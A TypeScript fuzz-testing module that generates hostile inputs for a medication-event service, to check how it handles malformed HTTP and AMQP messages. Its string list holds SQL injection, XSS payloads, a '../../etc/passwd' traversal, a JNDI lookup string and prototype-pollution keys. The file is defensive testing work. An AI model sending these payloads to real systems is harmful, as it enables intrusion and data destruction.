/**
 * Hostile input for the fuzz suites: strings that are SQL, HTML, paths,
 * Unicode edge cases or huge; numbers and structures where strings belong;
 * timestamps at the edges; prototype-pollution keys. Items are built as JSON
 * *text*, because a JavaScript literal `{ __proto__: … }` would set a
 * prototype instead of carrying the key.
 */
import fc from 'fast-check';

/** The seed of every fuzz suite: a failure is reproducible, and CI runs the same cases. */
export const FUZZ_SEED = 20261126;

export const HOSTILE_STRINGS = [
  "'; DROP TABLE events; --",
  '" OR "1"="1',
  "1' UNION SELECT up_id FROM events --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  'a/b/c',
  '../../etc/passwd',
  '%2F%2e%2e%00',
  'patient?x=1#frag',
  'üñíçødé 💊 患者',
  '\u202eevil\u202c',
  '\ufeffbom',
  'e\u0301',
  '\\u0000',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  ' padded ',
  'trailing ',
  'a\u0000b',
  '\ud800lone',
  'line\nbreak',
  'NULL',
  '',
];

export const EDGE_TIMES = [
  '2024-02-29T12:00:00Z',
  '2023-02-29T12:00:00Z',
  '9999-12-31T23:59:59.999Z',
  '0001-01-01T00:00:00Z',
  '2021-03-24T10:00:00+14:00',
  '2021-03-24T10:00:00-14:00',
  '2021-03-24T10:00:00.123456789Z',
  '2021-03-24T10:00:00,5+01:00',
  '2021-03-24T24:00:00Z',
  '2021-03-24T23:59:60Z',
  '+275760-09-13T00:00:00Z',
  '2021-03-24',
  '2021-03-24T10:00:00',
];

export const hostileString = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
    { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
    { weight: 1, arbitrary: fc.integer({ min: 60, max: 140 }).map((n) => 'x'.repeat(n)) },
    { weight: 1, arbitrary: fc.constant('h'.repeat(20_000)) },
  );

/** What may arrive where a string belongs. */
const notAString = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(fc.string(), { maxLength: 2 }),
    fc.dictionary(fc.string({ maxLength: 4 }), fc.string({ maxLength: 4 }), { maxKeys: 2 }),
  );

const field = (strings: fc.Arbitrary<string>) =>
  fc.oneof({ weight: 6, arbitrary: strings }, { weight: 1, arbitrary: notAString() });

const eventTime = () =>
  fc.oneof(
    fc.constantFrom(...EDGE_TIMES),
    fc
      .date({
        min: new Date('0001-01-01T00:00:00Z'),
        max: new Date('9999-12-31T23:59:59Z'),
        noInvalidDate: true,
      })
      .map((d) => d.toISOString()),
    hostileString(),
  );

/** An object that looks like a device event, fields hostile, as JSON text. */
const eventText = (): fc.Arbitrary<string> =>
  fc
    .record(
      {
        up_id: field(hostileString()),
        medication_name: field(hostileString()),
        action: field(
          fc.constantFrom('start', 'stop', 'cancel_start', 'cancel_stop', 'Start', ' stop', ''),
        ),
        event_time: field(eventTime()),
        event_id: field(hostileString()),
        extra: fc.jsonValue({ maxDepth: 3 }),
      },
      { requiredKeys: ['up_id', 'medication_name', 'action', 'event_time'] },
    )
    .chain((event) =>
      fc
        .subarray([
          '"__proto__":{"polluted":"yes"}',
          '"constructor":{"prototype":{"polluted":"yes"}}',
          '"prototype":{"polluted":1}',
        ])
        .map((keys) => {
          const text = JSON.stringify(event);
          return keys.length === 0 ? text : `{${keys.join(',')},${text.slice(1)}`;
        }),
    );

/** One item of a POSTed array (or one AMQP message), as JSON text. */
export const itemText = (): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 6, arbitrary: eventText() },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)) },
  );

/** Bytes as a broker might deliver them: random, invalid UTF-8, truncated JSON, or an event. */
export const messageBytes = (): fc.Arbitrary<Buffer> =>
  fc.oneof(
    itemText().map((t) => Buffer.from(t, 'utf8')),
    fc.uint8Array({ maxLength: 64 }).map((b) => Buffer.from(b)),
    itemText().map((t) =>
      Buffer.concat([Buffer.from(t.slice(0, 10)), Buffer.from([0xc3, 0x28, 0xff])]),
    ),
    fc.constant(Buffer.from(`${'['.repeat(50_000)}${']'.repeat(50_000)}`)),
  );

/** The Object.prototype keys now: a pollution would add one. */
export function prototypeIsClean(): boolean {
  return (
    Object.keys(Object.prototype).length === 0 &&
    (Object.prototype as Record<string, unknown>).polluted === undefined
  );
}
